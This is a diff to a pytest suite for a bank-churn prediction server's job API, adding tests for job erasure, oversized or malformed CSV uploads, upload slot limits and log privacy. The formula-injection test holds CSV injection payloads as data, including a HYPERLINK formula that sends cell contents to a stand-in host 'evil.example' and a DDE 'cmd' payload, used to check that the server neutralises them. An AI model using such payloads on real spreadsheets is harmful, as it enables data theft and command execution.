@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 import socket
 import time
@@ -169,15 +170,21 @@ def test_a_cancelled_job_stops_and_its_result_is_never_served(server):
     later = httpx.get(f"{server.url}/jobs/{job_id}").json()
     assert later["status"] == "cancelled" and later["rows_done"] == done["rows_done"] < 200_000, (done, later)
     assert httpx.get(f"{server.url}/jobs/{job_id}/result").status_code == 409
+    # DELETE of the cancelled (finished) job erases what is left of it
     again = httpx.delete(f"{server.url}/jobs/{job_id}")
-    assert again.status_code == 409 and "already cancelled" in again.json()["error"]
+    assert again.status_code == 200 and again.json() == {"job_id": job_id, "erased": True, "status": "cancelled"}
+    assert httpx.get(f"{server.url}/jobs/{job_id}").status_code == 404
 
 
-def test_a_finished_job_cannot_be_cancelled(server, sample_rows):
+def test_delete_of_a_finished_job_erases_it_and_its_results(server, sample_rows):
     job_id = submit_job(server.url, _csv([json_customer(r) for r in sample_rows[:3]])).json()["job_id"]
     wait_for_job(server.url, job_id)
+    assert httpx.get(f"{server.url}/jobs/{job_id}/result").status_code == 200
     r = httpx.delete(f"{server.url}/jobs/{job_id}")
-    assert r.status_code == 409 and r.json()["status"] == "completed"
+    assert r.status_code == 200 and r.json() == {"job_id": job_id, "erased": True, "status": "completed"}
+    for path in (f"/jobs/{job_id}", f"/jobs/{job_id}/result", f"/jobs/{job_id}/result?format=csv"):
+        assert httpx.get(f"{server.url}{path}").status_code == 404, path
+    assert httpx.delete(f"{server.url}/jobs/{job_id}").status_code == 404
 
 
 def test_jobs_are_counted_and_documented(server, sample_rows):
@@ -197,3 +204,91 @@ def test_jobs_are_counted_and_documented(server, sample_rows):
     assert {"/jobs", "/jobs/{job_id}", "/jobs/{job_id}/result"} <= set(spec["paths"])
     assert set(spec["paths"]["/jobs/{job_id}"]) == {"get", "delete"}
     assert np.isfinite(metric(after, "bank_churn_jobs_running_here"))
+
+
+# ------------------------------------------------------------------ hostile uploads
+
+ROW_BYTES = ",".join(["619", "France", "Female", "42", "2", "0.0", "1", "1", "1", "101348.88"]).encode()
+HOSTILE = [
+    ("commas", lambda: b"," * (48 << 20), "the header (line 1) is longer than 1,048,576 characters"),
+    ("million-column-header", lambda: b",".join(b"c%d" % i for i in range(1_000_000)), "the header (line 1) is longer"),
+    ("60-MiB-field", lambda: HEADER.encode() + b"\n" + b"7" * (60 << 20) + b"\n", "data row 1 (line 2) is longer"),
+    ("unbalanced-quotes", lambda: HEADER.encode() + b"\n" + ROW_BYTES + b'\n"' + b"x,y\n" * (10 << 20), "131,072"),
+]
+
+
+@pytest.mark.parametrize("media", ["multipart", "text/csv"])
+@pytest.mark.parametrize(("make", "message"), [c[1:] for c in HOSTILE], ids=[c[0] for c in HOSTILE])
+def test_hostile_uploads_get_a_400_naming_the_problem_and_the_server_lives(server, make, message, media):
+    data = make()
+    if media == "multipart":
+        r = submit_job(server.url, data, timeout=120)
+    else:
+        r = httpx.post(f"{server.url}/jobs", content=data, headers={"content-type": "text/csv"}, timeout=120)
+    assert r.status_code == 400 and message in r.json()["error"], r.text[:300]
+    assert server.proc.poll() is None
+    assert httpx.post(f"{server.url}/predict", json={"customer": json_customer(EXAMPLE_ROW)}).status_code == 200
+
+
+EXAMPLE_ROW = dict(zip(FEATURE_NAMES, [619, "France", "Female", 42, 2, 0.0, 1, 1, 1, 101348.88], strict=True))
+
+
+def test_uploads_beyond_the_concurrent_limit_get_503_at_once(server):
+    # Two uploads in progress (bodies trickling in) hold both slots of the default limit...
+    holders = []
+    for _ in range(2):
+        conn = socket.create_connection(("127.0.0.1", server.port), timeout=10)
+        conn.sendall(b"POST /jobs HTTP/1.1\r\nHost: x\r\nContent-Type: text/csv\r\nContent-Length: 100000\r\n\r\n")
+        conn.sendall(HEADER.encode() + b"\n")
+        holders.append(conn)
+    time.sleep(0.5)
+    try:
+        started = time.monotonic()
+        r = submit_job(server.url, _csv([EXAMPLE_ROW]))
+        waited = time.monotonic() - started
+        assert r.status_code == 503 and r.headers["retry-after"], r.text
+        assert "BANKCHURN_MAX_CONCURRENT_UPLOADS=2" in r.json()["error"] and waited < 2
+    finally:
+        for conn in holders:
+            conn.close()
+    time.sleep(0.5)  # the held uploads end (client gone) and give their slots back
+    assert submit_job(server.url, _csv([EXAMPLE_ROW])).status_code == 202
+
+
+def test_formula_cells_are_neutralised_in_the_csv_result_and_json_is_unchanged(server):
+    rows = [
+        {"CustomerId": '=HYPERLINK("http://evil.example/?"&A1,"click")', **EXAMPLE_ROW},
+        {"CustomerId": "+cmd|' /C calc'!A0", **EXAMPLE_ROW, "Age": "=1+1"},
+        {"CustomerId": "@SUM(1,2)", **EXAMPLE_ROW},
+        {"CustomerId": "-5", **EXAMPLE_ROW},
+        {"CustomerId": "15634602", **EXAMPLE_ROW},
+    ]
+    job_id = submit_job(server.url, _csv(rows)).json()["job_id"]
+    wait_for_job(server.url, job_id)
+    table = list(csv.reader(io.StringIO(httpx.get(f"{server.url}/jobs/{job_id}/result?format=csv").text)))
+    ids = [line[1] for line in table[1:]]
+    assert ids == [
+        '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
+        "'+cmd|' /C calc'!A0",
+        "'@SUM(1,2)",
+        "'-5",
+        "15634602",
+    ]
+    assert table[2][4].startswith("Age: ") and "unable to parse '=1+1'" in table[2][4]
+    result = httpx.get(f"{server.url}/jobs/{job_id}/result").json()
+    assert [p["CustomerId"] for p in result["predictions"]] == [rows[i]["CustomerId"] for i in (0, 2, 3, 4)]
+
+
+def test_job_ids_never_reach_the_log(server, sample_rows):
+    job_id = submit_job(server.url, _csv([json_customer(r) for r in sample_rows[:2]])).json()["job_id"]
+    status = wait_for_job(server.url, job_id)
+    unknown = "B" * 22
+    # 4xx answers are in the access log by default (BANKCHURN_ACCESS_LOG=errors)
+    assert httpx.get(f"{server.url}/jobs/{unknown}").status_code == 404
+    assert httpx.get(f"{server.url}/jobs/{job_id}/result?format=xml").status_code == 400
+    assert httpx.delete(f"{server.url}/jobs/{job_id}").status_code == 200
+    time.sleep(0.5)
+    log = server.log()
+    assert job_id not in log and unknown not in log
+    assert f"/jobs/ref:{status['ref']}/result" in log, "the access log names the job by its ref"
+    assert f"job {status['ref']} queued" in log and f"job {status['ref']} erased" in log
